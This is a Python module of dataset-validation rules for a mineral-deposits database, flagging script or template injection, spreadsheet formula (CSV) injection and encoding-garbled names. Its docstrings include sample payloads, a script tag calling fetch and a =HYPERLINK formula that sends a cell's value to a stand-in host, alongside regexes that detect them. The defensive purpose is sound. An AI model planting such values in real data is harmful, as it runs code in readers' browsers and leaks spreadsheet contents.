"""Rules on texts that other programs would run, or that one has garbled (GD7xx).

They look at every text of every table.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Final

from geodeposits.checks.hits import Row, complaint, shown, texts
from geodeposits.checks.registry import rule
from geodeposits.checks.text_columns import TextColumn, faulty_texts, text_columns
from geodeposits.dataset import Dataset
from geodeposits.dataset.schema import SCHEMAS
from geodeposits.finding import Finding, Severity

__all__ = ["garbled_letters", "markup_in_text", "spreadsheet_formulas"]

_TABLES: Final = tuple(SCHEMAS)

# --- Markup --------------------------------------------------------------------------------------

_TEMPLATE: Final = r"\{\{|\{%|\{#|<\s*/?\s*script\b"
_MARKUP: Final = re.compile(rf"{_TEMPLATE}|\bjavascript\s*:", re.IGNORECASE)
_MARKUP_IN_URL: Final = re.compile(_TEMPLATE, re.IGNORECASE)
_URL: Final = ("sources", "url")


@rule("GD701", Severity.ERROR, needs=_TABLES)
def markup_in_text(dataset: Dataset) -> Iterator[Finding]:
    """Find texts with template tags, script elements or addresses that run a script.

    An address of a source that begins with javascript: is for GD603.

    Why
        Maps and reports are pages, and pages of others are made with templates. A name that
        is code runs in the browser of everybody who opens one; no deposit is called so.
    Bad
        name = "Kvanefjeld<script>fetch('//x')</script>", note = "{{ config }}"
    Good
        name = "Kvanefjeld"
    """
    everywhere = (_MARKUP, {_URL}), (_MARKUP_IN_URL, set(_all_but_urls(dataset)))
    for pattern, skipped in everywhere:

        def fault(text: str, pattern: re.Pattern[str] = pattern) -> str:
            found = pattern.search(text)
            return f"holds {shown(found[0])}, which is code: remove it" if found else ""

        def may_hit(column: TextColumn, pattern: re.Pattern[str] = pattern) -> bool:
            signs = column.signs
            if signs.isdisjoint("{<") and (":" not in signs or signs.isdisjoint("jJ")):
                return False
            return pattern.search("\n".join(column.distinct)) is not None

        yield from faulty_texts(
            dataset, "GD701", Severity.ERROR, may_hit, fault, skipped=frozenset(skipped)
        )


def _all_but_urls(dataset: Dataset) -> Iterator[tuple[str, str]]:
    return (key for c in text_columns(dataset) if (key := (c.table, c.name)) != _URL)


# --- Formulas ------------------------------------------------------------------------------------

# OWASP, CSV injection: Excel takes a cell for a formula that begins with = + - @, with a tab or a
# carriage return before it, or with their full-width forms; LibreOffice takes = alone. What + - @
# begin is run only where it can be read as a formula: a call, a DDE link (|) or a reference to
# another sheet (!). Numbers with a sign, telephone numbers and dashes before prose cannot.
_SPACE: Final = r"[\s\x00-\x1f\ufeff\u200b]*"
_CALL: Final = r"(?:[A-Za-z_][\w.]*[(|]|['\[][^'\]]*['\]][^!]{0,40}!\s*\$?[A-Za-z])"
_RUN: Final = rf"[+\-@＋－＠][\d.,\s+\-*/^&(%@]*{_CALL}"
# A sum, or a reference to a cell, that is the whole text: +A1, -2+3, @$B$7*2.
_CELL: Final = r"\$?[A-Z]{1,3}\$?[1-9]\d{0,6}"
_NUMBER: Final = r"\d+(?:\.\d+)?"
_SUM: Final = (
    rf"[+\-@＋－＠](?:{_CELL}|{_NUMBER}[*/^&+\-](?:{_CELL}|{_NUMBER}))"
    rf"(?:[*/^&+\-](?:{_CELL}|{_NUMBER}))*\s*\Z"
)
_BEGINS: Final = frozenset("=＝+-@＋－＠")
_BLANK: Final = re.compile(r"[\s\x00-\x1f\ufeff\u200b]")
_MAY_BEGIN: Final = re.compile(rf"(?:\A|\n){_SPACE}[=＝+\-@＋－＠]")
_FORMULA: Final = re.compile(rf"{_SPACE}(?:[=＝]\s*\S|{_RUN}|{_SUM})")
# A cell of a list, or of a table read with another separator, begins in the middle of a text.
_INNER: Final = re.compile(r"[;,\t\r\n]\s*\"?\s*[=@][A-Za-z_][\w.]*[(|]")


@rule("GD702", Severity.WARNING, needs=_TABLES)
def spreadsheet_formulas(dataset: Dataset) -> Iterator[Finding]:
    r"""Find texts that a spreadsheet runs as a formula.

    That is what begins with = at all; with + - or @ where a function call, a DDE link, a
    reference to a sheet, a cell or a sum follows; either after blanks, tabs and line breaks, or,
    of calls after = and @, in the middle of a text after a separator. Numbers with a sign,
    +90 312 294 20 00, handles such as @usgs and a dash before prose are left alone.

    Why
        The tables are opened in spreadsheets. A cell =HYPERLINK(…) sends what stands beside it to
        somebody else's server with one click, and one with a DDE link starts a program.
    Bad
        note = "=HYPERLINK(\"https://x.example/?\"&A1, \"map\")"
    Good
        note = "A link to the map"
    """

    def fault(text: str) -> str:
        hit = _FORMULA.match(text) or _INNER.search(text)
        return "is run as a formula by a spreadsheet: begin it with a word" if hit else ""

    def may_hit(column: TextColumn) -> bool:
        if column.signs.isdisjoint(_BEGINS):
            return False
        if _BLANK.search("".join(column.signs)) is None and column.signs.isdisjoint(",;"):
            return not _BEGINS.isdisjoint({text[:1] for text in column.distinct})
        joined = "\n".join(column.distinct)
        return any(pattern.search(joined) for pattern in (_MAY_BEGIN, _INNER))

    yield from faulty_texts(dataset, "GD702", Severity.WARNING, may_hit, fault)


# --- Garbled letters -----------------------------------------------------------------------------

# UTF-8 that was read as Windows-1252 or ISO 8859-1: a letter of two bytes shows as one of Â Ã Ä Å
# (bytes C2 to C5: Latin letters and signs) before the sign of its second byte (80 to BF); a dash or
# a quotation mark of three bytes as â€ and a sign; Cyrillic as pairs that begin with Ð or Ñ.
_SECOND_BYTES: Final = "".join(
    sorted({bytes([byte]).decode(code, "ignore") for byte in range(0x80, 0xC0)
            for code in ("cp1252", "latin-1")} - {""})
)  # fmt: skip
_PUNCTUATION: Final = "–—‘’‚“”„…"
_SECOND: Final = f"[{re.escape(_SECOND_BYTES)}]"
_GARBLED: Final = re.compile(
    rf"(?<![A-ZÀ-Þ])[ÂÃÄ](?=[{_PUNCTUATION}]).|[ÂÃÄ](?![{_PUNCTUATION}]){_SECOND}"
    rf"|(?<![A-ZÀ-Þ])Å(?![\u00a0{_PUNCTUATION}]){_SECOND}|â[€\x80]{_SECOND}"
    rf"|(?:[ÐÑ]{_SECOND}){{2,}}"
)
# The second sign may be lost, a no-break space above all: no word ends in Â or Ã but in capitals,
# and none has them after a small letter.
_HALF: Final = re.compile(r"(?<![A-ZÀ-Þ])[ÂÃ](?=\s|$)|(?<=[a-zß-ÿ])[ÂÃ](?![A-ZÀ-Þ])")
_LAST_OF_LATIN_1: Final = "\xff"
_LOST: Final = "\ufffd"
_LEADING: Final = frozenset(f"ÂÃÄÅâÐÑ{_LOST}")  # without one of them nothing is garbled

# ISO 8859-9 (Latin-5) has six Turkish letters where ISO 8859-1 has those of Icelandic.
_TURKISH: Final = str.maketrans("ýþðÝÞÐ", "ışğİŞĞ")
_ICELANDIC: Final = re.compile("[ýþðÝÞÐ]")


@rule("GD703", Severity.WARNING, needs=_TABLES)
def garbled_letters(dataset: Dataset) -> Iterator[Finding]:
    """Find texts that were read in another encoding than they were written in.

    That is UTF-8 read as Windows-1252 (Ã¼ for ü, Ä± for ı, â€“ for –), Â or Ã alone and U+FFFD
    where a letter was lost, and Icelandic letters in a record of Türkiye (ý for ı, þ for ş, ð for
    ğ). Read as ISO 8859-1, some letters turn into control characters, which are for GD107 as well.

    Why
        A garbled name is found by no search and is a deposit of its own beside its twin. One
        garbled cell mostly means that the whole file was opened wrongly.
    Bad
        name = "KÄ±zÄ±lcaÃ¶ren", admin1 = "Eskiþehir"
    Good
        name = "Kızılcaören", admin1 = "Eskişehir"
    """
    yield from faulty_texts(dataset, "GD703", Severity.WARNING, _may_be_garbled, _garbling)
    turkish = _turkish_records(dataset)
    for column in text_columns(dataset):
        if _ICELANDIC.search("".join(column.signs)) is None:
            continue
        found = {text for text in column.distinct if _ICELANDIC.search(text)}
        for row, text in column.holding(found):
            if _is_of(row, turkish) and not _garbling(text):
                right = shown(text.translate(_TURKISH))
                message = f"{column.name} {shown(text)} has letters of Icelandic: write {right}"
                yield complaint("GD703", Severity.WARNING, row, message, field=column.name)


def _may_be_garbled(column: TextColumn) -> bool:
    if column.signs.isdisjoint(_LEADING):
        return False
    joined = "\n".join(column.distinct)
    return _LOST in joined or any(each.search(joined) for each in (_GARBLED, _HALF))


def _garbling(text: str) -> str:
    if _LOST in text:
        return "has lost a letter (U+FFFD): read the source again"
    mended = _GARBLED.sub(lambda match: _read_again(match[0]), text)
    if half := _HALF.search(mended):
        return f"has lost a letter after {half[0]}, read in a wrong encoding: see the source again"
    return f"was read in a wrong encoding: write {shown(mended)}" if mended != text else ""


def _read_again(text: str) -> str:
    """Read as UTF-8 what was read as Windows-1252, or ISO 8859-1 where that has no sign."""
    given = b"".join(_byte(char) for char in text)
    try:
        return given.decode("utf-8")
    except UnicodeDecodeError:
        return text


def _byte(char: str) -> bytes:
    return char.encode("latin-1" if char <= _LAST_OF_LATIN_1 else "cp1252")


def _turkish_records(dataset: Dataset) -> frozenset[str]:
    """Return the ids of the deposits and occurrences in Türkiye."""
    found = [
        texts(table, key)[(texts(table, "country") == "TR").to_numpy(dtype=bool)]
        for table, key in ((dataset.deposits, "id"), (dataset.occurrences, "occurrence_id"))
    ]
    return frozenset(each for ids in found for each in ids.dropna())


def _is_of(row: Row, records: frozenset[str]) -> bool:
    return row.get("country") == "TR" or bool({row.get("id"), row.get("occurrence_id")} & records)
